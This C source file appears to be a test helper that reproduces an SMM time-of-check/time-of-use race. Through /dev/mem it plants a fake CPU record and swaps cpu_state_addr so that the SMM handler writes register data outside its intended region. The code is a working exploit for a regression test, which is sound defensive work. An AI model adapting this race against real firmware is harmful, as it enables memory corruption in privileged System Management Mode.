/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The SMM TOCTOU attack of issue 16, as a program the test OS runs on CPU 1
 * (tests/crashdump/test_q35_smm_race.py): plant a fake CPU record in the
 * anchor's first half, spin until the SMM handler marks slot 0 VALID (so
 * its check of the table has passed and it is writing records), then move
 * cpu_state_addr so that the next slot lands on the fake record. A handler
 * that reads the table again after its check writes a register record
 * there: outside CPU_STATE.
 *
 * usage: smm_racer ANCHOR_ADDRESS (the anchor is reserved memory, which
 * /dev/mem serves under STRICT_DEVMEM). What it did is left in the anchor
 * at REPORT_OFF ("RACEHIT!", spins, the address it moved to), since the
 * machine resets before anything could be printed.
 */

#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define ANCHOR_SIZE	0x10000
#define FAKE_OFF	0x4000		/* in the anchor's first half, past the table */
#define REPORT_OFF	0x6000
#define OFF_TOTAL_SIZE	24
#define OFF_CPU_RECORD_SIZE 68
#define OFF_CPU_COUNT	66
#define OFF_CPU_STATE_ADDR 104
#define REC_MAGIC	0x55504350u
#define REC_OFF_FLAGS	8
#define REC_OFF_CPU_ID	16

struct report {
	char magic[8];
	uint64_t spins;
	uint64_t moved_to;
	uint64_t slot0_flags;
};

/* Spin on slot 0's flags; the test looks for CPU 1's saved RIP in here. */
__attribute__((noinline)) void race(volatile uint8_t *a, volatile uint32_t *slot0_flags,
				    uint64_t evil, volatile struct report *r)
{
	uint64_t spins = 0;
	uint32_t flags;

	while (!((flags = *slot0_flags) & 1))
		spins++;
	*(volatile uint64_t *)(a + OFF_CPU_STATE_ADDR) = evil;
	r->moved_to = evil;
	r->spins = spins;
	r->slot0_flags = flags;
	memcpy((void *)r->magic, "RACEHIT!", 8);
	for (;;)
		__asm__ volatile("pause");
}

int main(int argc, char **argv)
{
	uint64_t anchor, cpu_state, evil, cpu1;
	uint32_t total, record;
	volatile uint8_t *a, *fake;
	cpu_set_t cpus;
	int fd;

	if (argc != 2)
		return 2;
	anchor = strtoull(argv[1], NULL, 0);
	CPU_ZERO(&cpus);
	CPU_SET(1, &cpus);
	if (sched_setaffinity(0, sizeof(cpus), &cpus)) {
		perror("sched_setaffinity");
		return 1;
	}
	fd = open("/dev/mem", O_RDWR | O_SYNC);
	if (fd < 0) {
		perror("/dev/mem");
		return 1;
	}
	a = mmap(NULL, ANCHOR_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)anchor);
	if (a == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	total = *(volatile uint32_t *)(a + OFF_TOTAL_SIZE);
	record = *(volatile uint32_t *)(a + OFF_CPU_RECORD_SIZE);
	cpu_state = *(volatile uint64_t *)(a + OFF_CPU_STATE_ADDR);
	if (total > FAKE_OFF || cpu_state < anchor || cpu_state - anchor >= ANCHOR_SIZE ||
	    *(volatile uint16_t *)(a + OFF_CPU_COUNT) < 2) {
		fprintf(stderr, "RACER: unexpected table (total %u, CPU_STATE %#llx)\n", total,
			(unsigned long long)cpu_state);
		return 1;
	}
	/* The fake record: a slot for CPU 1, as the OS pre-fills real ones. */
	cpu1 = *(volatile uint64_t *)(a + (cpu_state - anchor) + record + REC_OFF_CPU_ID);
	fake = a + FAKE_OFF;
	memset((void *)fake, 0, record);
	*(volatile uint32_t *)fake = REC_MAGIC;
	*(volatile uint16_t *)(fake + 4) = 1;
	*(volatile uint64_t *)(fake + REC_OFF_CPU_ID) = cpu1;
	/* Slot 1 of a CPU_STATE at `evil` is the fake record. */
	evil = anchor + FAKE_OFF - record;
	memset((void *)(a + REPORT_OFF), 0, sizeof(struct report));
	printf("RACER: ready on CPU %d: fake record at %#llx, will move cpu_state_addr "
	       "%#llx -> %#llx\n", sched_getcpu(), (unsigned long long)(anchor + FAKE_OFF),
	       (unsigned long long)cpu_state, (unsigned long long)evil);
	fflush(stdout);
	race(a, (volatile uint32_t *)(a + (cpu_state - anchor) + REC_OFF_FLAGS), evil,
	     (volatile struct report *)(a + REPORT_OFF));
	return 0;
}
